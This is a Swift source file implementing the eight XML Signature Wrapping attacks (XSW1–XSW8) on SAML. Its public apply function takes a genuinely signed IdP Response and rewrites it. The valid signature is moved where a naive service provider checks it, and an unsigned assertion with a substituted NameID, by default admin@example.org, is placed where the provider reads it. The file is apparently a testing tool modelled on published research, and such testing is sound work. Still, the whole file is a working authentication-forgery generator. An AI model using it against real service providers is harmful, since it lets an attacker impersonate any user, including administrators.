import Foundation

/// The eight classic XML Signature Wrapping shapes against SAML (Somorovsky et al., "On
/// Breaking SAML: Be Whoever You Want to Be", USENIX Security 2012; the XSW1–XSW8 naming of
/// SAML Raider). Each keeps the IdP's valid signature over the original element but moves that
/// element where a naive SP verifies it and does not read it, and puts an unsigned "evil"
/// element — here with another NameID — where the SP reads.
public enum SignatureWrapping: String, Sendable, CaseIterable {
    /// Evil Response as root; the original Response (its signature removed) inside the
    /// Signature's `ds:Object`. Needs a signed Response.
    case xsw1
    /// As XSW1, with the original Response as a sibling before the Signature.
    case xsw2
    /// Evil Assertion inserted before the original signed Assertion.
    case xsw3
    /// Original signed Assertion nested inside the evil Assertion.
    case xsw4
    /// Evil Assertion carries the copied Signature; the original Assertion, unsigned, at the end.
    case xsw5
    /// Evil Assertion carries the copied Signature, which holds the original Assertion.
    case xsw6
    /// The original signed Assertion hidden in an `Extensions` element of the evil Assertion.
    case xsw7
    /// Evil Assertion's copied Signature holds a `ds:Object` with the original Assertion.
    case xsw8

    /// True when the shape needs the Response to be signed (XSW1, XSW2); the others need a
    /// signed Assertion.
    public var needsSignedResponse: Bool { self == .xsw1 || self == .xsw2 }

    /// Applies the attack to a signed Response. `evilNameID` replaces the NameID in the evil copy.
    public func apply(to signedResponse: String, evilNameID: String = "admin@example.org") throws -> String {
        let doc = try XMLDocument(parsing: signedResponse)
        let root = doc.root
        guard let assertion = root.firstChild("Assertion", SAMLNamespace.assertion) else {
            throw SAMLError(.missingElement, "the Response has no plaintext Assertion to wrap")
        }
        let rootXML = String(decoding: root.serialized(), as: UTF8.self)
        let responseStart = String(rootXML[..<rootXML.firstIndex(of: ">")!]) + ">"
        let responseID = root.attribute("ID") ?? ""
        let issuer = root.firstChild("Issuer", SAMLNamespace.assertion).map(Self.text) ?? ""
        let status = root.firstChild("Status", SAMLNamespace.protocol_).map(Self.text) ?? ""
        let responseSignature = XMLSignatureVerifier.signatureElement(of: root)
        let assertionSignature = XMLSignatureVerifier.signatureElement(of: assertion)
        let originalAssertion = Self.text(assertion)
        let assertionID = assertion.attribute("ID") ?? ""
        let assertionNoSig = assertionSignature.map { originalAssertion.replacingOccurrences(of: Self.text($0), with: "") } ?? originalAssertion
        let originalNameID = assertion.descendants("NameID", SAMLNamespace.assertion).first?.text ?? ""
        func evil(_ xml: String) -> String {
            xml.replacingOccurrences(of: ">\(XMLWriter.escapeText(originalNameID))<", with: ">\(XMLWriter.escapeText(evilNameID))<")
                .replacingOccurrences(of: "ID=\"\(assertionID)\"", with: "ID=\"\(assertionID)-evil\"")
        }
        let evilAssertion = evil(assertionNoSig)
        let close = "</\(root.prefix.map { "\($0):" } ?? "")Response>"
        let objectOpen = "<ds:Object xmlns:ds=\"\(SAMLNamespace.dsig)\">"

        switch self {
        case .xsw1, .xsw2:
            guard let sig = responseSignature else { throw SAMLError(.missingElement, "\(rawValue) needs a signed Response") }
            let sigXML = Self.text(sig)
            let originalResponseNoSig = rootXML.replacingOccurrences(of: sigXML, with: "")
            let evilStart = responseStart.replacingOccurrences(of: "ID=\"\(responseID)\"", with: "ID=\"\(responseID)-evil\"")
            let body = status + evilAssertion
            if self == .xsw1 {
                let wrapped = sigXML.replacingOccurrences(of: "</ds:Signature>", with: objectOpen + originalResponseNoSig + "</ds:Object></ds:Signature>")
                return evilStart + issuer + wrapped + body + close
            }
            return evilStart + issuer + originalResponseNoSig + sigXML + body + close
        case .xsw3, .xsw4, .xsw5, .xsw6, .xsw7, .xsw8:
            guard let sig = assertionSignature else { throw SAMLError(.missingElement, "\(rawValue) needs a signed Assertion") }
            let sigXML = Self.text(sig)
            // Keep the Response signature out: these shapes target SPs that trust the Assertion's.
            let prefix = responseStart + issuer + status
            func insertAfterIssuer(_ xml: String, _ insert: String) -> String {
                let end = xml.range(of: "</saml:Issuer>")!.upperBound
                return String(xml[..<end]) + insert + String(xml[end...])
            }
            switch self {
            case .xsw3:
                return prefix + evilAssertion + originalAssertion + close
            case .xsw4:
                let inner = evilAssertion.replacingOccurrences(of: "</saml:Assertion>", with: originalAssertion + "</saml:Assertion>", options: .backwards)
                return prefix + String(inner) + close
            case .xsw5:
                return prefix + insertAfterIssuer(evilAssertion, sigXML) + assertionNoSig + close
            case .xsw6:
                let wrapped = sigXML.replacingOccurrences(of: "</ds:Signature>", with: assertionNoSig + "</ds:Signature>")
                return prefix + insertAfterIssuer(evilAssertion, wrapped) + close
            case .xsw7:
                let ext = "<samlp:Extensions xmlns:samlp=\"\(SAMLNamespace.protocol_)\">" + originalAssertion + "</samlp:Extensions>"
                return prefix + insertAfterIssuer(evilAssertion, ext) + close
            default:
                let wrapped = sigXML.replacingOccurrences(of: "</ds:Signature>", with: objectOpen + assertionNoSig + "</ds:Object></ds:Signature>")
                return prefix + insertAfterIssuer(evilAssertion, wrapped) + close
            }
        }
    }

    private static func text(_ element: XMLElement) -> String {
        String(decoding: element.serialized(), as: UTF8.self)
    }
}
